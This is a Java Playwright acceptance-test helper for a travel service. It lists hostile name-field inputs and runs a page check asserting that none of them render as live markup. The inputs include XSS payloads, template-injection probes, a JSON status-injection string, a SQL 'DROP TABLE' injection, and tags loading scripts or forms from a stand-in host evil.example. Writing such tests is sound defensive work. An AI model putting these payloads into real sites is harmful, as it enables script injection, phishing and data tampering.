package travel.saga.acceptance;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Page;
import java.util.List;

/** What somebody enters who hopes that a page takes it for something other than text. */
final class HostileText {
  /** Each at most as long as a name may be. */
  static final List<String> ALL =
      List.of(
          "<script>window.hacked=1</script>",
          "</script><script>window.hacked=1</script>",
          "<ScRiPt src=//evil.example/x.js></ScRiPt>",
          "<img src=x onerror=window.hacked=1>",
          "<img src=\"http://evil.example/pixel\">",
          "<svg onload=window.hacked=1>",
          "<svg><script>window.hacked=1</script></svg>",
          "</title><script>window.hacked=1</script>",
          "</textarea></pre></summary></details><img src=x onerror=window.hacked=1>",
          "\"><img src=x onerror=window.hacked=1>",
          "' onmouseover='window.hacked=1",
          "\" autofocus onfocus=\"window.hacked=1",
          "x` onclick=`window.hacked=1",
          "javascript:window.hacked=1",
          "java&#115;cript:window.hacked=1",
          "data:text/html,<script>window.hacked=1</script>",
          "<a href=\"javascript:window.hacked=1\">x</a>",
          "<iframe srcdoc=\"<script>parent.hacked=1</script>\">",
          "<style>*{display:none}</style>",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<base href=//evil.example/>",
          "<form action=//evil.example><button>Log in</button></form>",
          "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
          "<div hx-get=\"/console\" hx-trigger=\"load\" hx-on:click=\"window.hacked=1\">",
          "{inject:csrf.token} {#if true}hacked{/if} {str:eval('{1+1}')}",
          "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>",
          "\"}],\"status\":\"CONFIRMED\",\"x\":[{\"",
          "<!-- --!> <![CDATA[ <!DOCTYPE html> -->",
          "&lt;script&gt; &amp; &#60;b&#62; %3Cscript%3E \\u003cscript\\u003e",
          "\u202Etxet sdrawkcab\u202C zero\u200Bwidth\uFEFF \u2066isolate\u2069",
          "W".repeat(100),
          "' OR 1=1 -- %_ ; DROP TABLE instance");

  /** Elements that no page of ours has; a page's own scripts come from where it comes from. */
  private static final String FOREIGN =
      """
      () => [...document.querySelectorAll('*')].filter(element => {
        const names = [...element.attributes].map(attribute => attribute.name);
        const script = element.tagName === 'SCRIPT';
        const target = element.getAttribute('href') || element.getAttribute('action')
          || element.getAttribute('src') || element.getAttribute('hx-get') || '/';
        return names.some(name => name.startsWith('on') || name.startsWith('hx-on')
            || name === 'style' || name === 'srcdoc' || name === 'formaction')
          || ['IMG', 'IFRAME', 'OBJECT', 'EMBED', 'STYLE', 'BASE'].includes(element.tagName)
          || (script && !element.getAttribute('src').startsWith('/assets/'))
          || !(target.startsWith('/') || target.startsWith('#')) || target.startsWith('//')
          || (element.tagName === 'META' && element.httpEquiv);
      }).map(element => element.outerHTML.substring(0, 200))
      """;

  private HostileText() {}

  /** The page is made of what the service has written, and nothing else. */
  static void expectHarmless(Page page, String what) {
    assertThat(page.evaluate(FOREIGN)).as("foreign elements of %s", what).isEqualTo(List.of());
    assertThat(page.evaluate("window.hacked === undefined")).as(what).isEqualTo(true);
  }
}
